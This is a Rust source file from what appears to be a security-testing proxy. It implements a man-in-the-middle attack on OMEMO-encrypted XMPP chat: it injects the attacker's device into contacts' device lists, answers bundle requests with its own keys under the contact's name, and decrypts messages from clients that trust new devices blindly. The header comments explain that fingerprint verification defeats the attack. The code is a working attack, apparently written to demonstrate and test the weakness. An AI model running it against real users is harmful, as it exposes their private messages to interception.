//! `inject-omemo-device`: the attack XEP-0384 warns about (its security
//! considerations: a device list is only as trustworthy as the path it
//! came by). The proxy has an OMEMO device of its own; wherever it can
//! read the stream (plaintext, or TLS it ended itself) it
//! - adds that device to every contact's device list the client is sent
//!   (PEP notifications and fetched lists), in both OMEMO versions;
//! - answers the client's request for that device's bundle (the server
//!   says it does not exist) with the proxy's own bundle, under the
//!   contact's name;
//! - opens every message the client then encrypts to it: a client that
//!   trusts new devices blindly (blind trust before verification, the
//!   default of Conversations and of our client) encrypts each message to
//!   the attacker too, and the attacker reads it.
//!
//! What stops it: verification. A client that compared a contact's
//! fingerprint out of band trusts none of that contact's new devices
//! until they are verified too, so the injected device gets no key; the
//! client warns that a new, untrusted device appeared.
//!
//! The cryptography is `protocol::omemo`'s, the same code the client
//! uses: the attacker is a perfectly ordinary OMEMO device.

use std::collections::HashMap;
use std::sync::Mutex;

use protocol::omemo::device::Device;
use protocol::omemo::message;
use protocol::omemo::session::Session;
use protocol::omemo::{Version, xml};
use protocol::{Element, ns};

/// How many sessions the attacker keeps (one per fooled sender device).
const MAX_SESSIONS: usize = 1024;

/// How many bundle requests for the attacker's device may wait for their
/// answer on one connection.
pub(crate) const MAX_PENDING: usize = 64;

/// The attacker's OMEMO device and the sessions fooled clients built
/// with it.
pub struct Attacker {
    device: Mutex<Device>,
    sessions: Mutex<HashMap<(String, u32, Version), Session>>,
}

impl Default for Attacker {
    fn default() -> Self {
        Attacker::new()
    }
}

impl std::fmt::Debug for Attacker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Attacker")
            .field("device", &self.id())
            .finish()
    }
}

/// What one stanza made the attack do, for the report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Did {
    /// Added the device to a contact's list.
    Injected {
        /// The contact.
        owner: String,
        /// Which OMEMO.
        v: Version,
        /// The list as the client now gets it.
        devices: Vec<u32>,
    },
    /// Answered a bundle request with the attacker's bundle.
    Served {
        /// The contact it was asked of.
        owner: String,
        /// Which OMEMO.
        v: Version,
    },
    /// A message from the client the attacker could open.
    Read {
        /// Its addressee.
        to: String,
        /// Its text (empty: an empty message).
        text: String,
    },
    /// A message from the client with no key for the attacker's device
    /// (the device was not trusted).
    Refused {
        /// Its addressee.
        to: String,
    },
    /// A message with a key for the attacker's device that it could not
    /// open (a session it lost, a message it missed).
    Unreadable {
        /// Its addressee.
        to: String,
        /// Why.
        why: String,
    },
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

/// The child elements of `el`, to change.
fn children_mut(el: &mut Element) -> impl Iterator<Item = &mut Element> {
    el.children.iter_mut().filter_map(|n| match n {
        protocol::Node::Element(e) => Some(e),
        _ => None,
    })
}

/// The bare form of a JID as written in an attribute.
fn bare(jid: &str) -> &str {
    jid.split('/').next().unwrap_or(jid)
}

impl Attacker {
    /// A new device with a random id and keys.
    pub fn new() -> Attacker {
        Attacker {
            device: Mutex::new(Device::generate()),
            sessions: Mutex::new(HashMap::new()),
        }
    }

    /// The attacker's device id.
    pub fn id(&self) -> u32 {
        lock(&self.device).id
    }

    /// Toward the client: adds the device to a contact's device list, and
    /// turns the answer to a bundle request (in `pending`, by iq id) into
    /// the attacker's bundle. `me` is the client's bare JID, once known:
    /// its own list is left alone (the client would notice a device of
    /// its own it does not know).
    pub fn to_client(
        &self,
        el: &mut Element,
        me: Option<&str>,
        pending: &mut HashMap<String, (Version, String)>,
    ) -> Option<Did> {
        if el.name == "iq"
            && let Some((v, owner)) = el.get_attr("id").and_then(|id| pending.remove(id))
        {
            let (node, item) = xml::bundle_node(v, self.id());
            let bundle = xml::bundle_element(v, &lock(&self.device).bundle(v));
            let answer = Element::new("iq", ns::CLIENT)
                .attr("type", "result")
                .attr("id", el.get_attr("id").unwrap_or_default().to_string())
                .attr("from", owner.clone())
                .attr_opt("to", el.get_attr("to").map(str::to_string))
                .child(
                    Element::new("pubsub", ns::PUBSUB).child(
                        Element::new("items", ns::PUBSUB).attr("node", node).child(
                            Element::new("item", ns::PUBSUB)
                                .attr("id", item)
                                .child(bundle),
                        ),
                    ),
                );
            *el = answer;
            return Some(Did::Served { owner, v });
        }
        let owner = bare(el.get_attr("from")?).to_string();
        if me == Some(owner.as_str()) {
            return None;
        }
        let id = self.id();
        // A notification's <event><items/>, or a fetch's <pubsub><items/>.
        let items = match el.name.as_str() {
            "message" => el.get_child_mut("event", ns::PUBSUB_EVENT)?,
            "iq" if el.get_attr("type") == Some("result") => {
                el.get_child_mut("pubsub", ns::PUBSUB)?
            }
            _ => return None,
        };
        let items_ns = items.ns.to_string();
        let items = items.get_child_mut("items", &items_ns)?;
        let node = items.get_attr("node")?.to_string();
        let v = Version::ALL
            .into_iter()
            .find(|v| xml::devices_node(*v) == node)?;
        let mut changed = false;
        let mut devices = Vec::new();
        for item in children_mut(items).filter(|i| i.name == "item") {
            for list in children_mut(item).filter(|l| l.ns == v.ns()) {
                if !xml::read_device_list(v, list).contains(&id) {
                    list.children.push(protocol::Node::Element(
                        Element::new("device", v.ns()).attr("id", id.to_string()),
                    ));
                    changed = true;
                }
                devices = xml::read_device_list(v, list);
            }
        }
        changed.then_some(Did::Injected { owner, v, devices })
    }

    /// Toward the server: notes a request for the attacker's bundle (to
    /// answer it on the way back), and opens a message the client
    /// encrypted to the attacker's device. `me` is the client's bare JID.
    pub fn to_server(
        &self,
        el: &Element,
        me: Option<&str>,
        pending: &mut HashMap<String, (Version, String)>,
    ) -> Option<Did> {
        match el.name.as_str() {
            "iq" => {
                let items = el
                    .get_child("pubsub", ns::PUBSUB)?
                    .get_child("items", ns::PUBSUB)?;
                let node = items.get_attr("node")?;
                let id = self.id();
                let v = Version::ALL
                    .into_iter()
                    .find(|v| xml::bundle_node(*v, id).0 == node)?;
                let (_, item) = xml::bundle_node(v, id);
                let named = items
                    .elements()
                    .find(|i| i.name == "item")
                    .and_then(|i| i.get_attr("id"));
                // OMEMO 2 names the device as the item; 0.3 has a node
                // per device.
                if v == Version::Two && named != Some(item.as_str()) {
                    return None;
                }
                if pending.len() < MAX_PENDING {
                    pending.insert(
                        el.get_attr("id")?.to_string(),
                        (v, bare(el.get_attr("to")?).to_string()),
                    );
                }
                None
            }
            "message" => {
                let (v, enc) = Version::ALL
                    .into_iter()
                    .find_map(|v| Some((v, el.get_child("encrypted", v.ns())?)))?;
                let to = bare(el.get_attr("to")?).to_string();
                let from = me?.to_string();
                Some(self.open(v, &from, &to, enc))
            }
            _ => None,
        }
    }

    /// Opens a message from `from` to `to` as the device the client
    /// believes is `to`'s.
    fn open(&self, v: Version, from: &str, to: &str, enc: &Element) -> Did {
        let mut device = lock(&self.device);
        let mut sessions = lock(&self.sessions);
        let opened = message::open(v, &device, to, from, enc, &mut |sid| {
            sessions.get(&(from.to_string(), sid, v)).cloned()
        });
        match opened {
            Ok(o) => {
                if let Some((pk, _)) = o.new_session {
                    device.used(pk);
                }
                if sessions.len() < MAX_SESSIONS
                    || sessions.contains_key(&(from.to_string(), o.device, v))
                {
                    sessions.insert((from.to_string(), o.device, v), o.session);
                }
                match o.body {
                    Some(text) => Did::Read {
                        to: to.to_string(),
                        text,
                    },
                    // An empty message (the ratchet moving): read too,
                    // nothing in it.
                    None => Did::Read {
                        to: to.to_string(),
                        text: String::new(),
                    },
                }
            }
            Err(message::OpenError::NotForUs { .. }) => Did::Refused { to: to.to_string() },
            Err(e) => Did::Unreadable {
                to: to.to_string(),
                why: e.to_string(),
            },
        }
    }
}
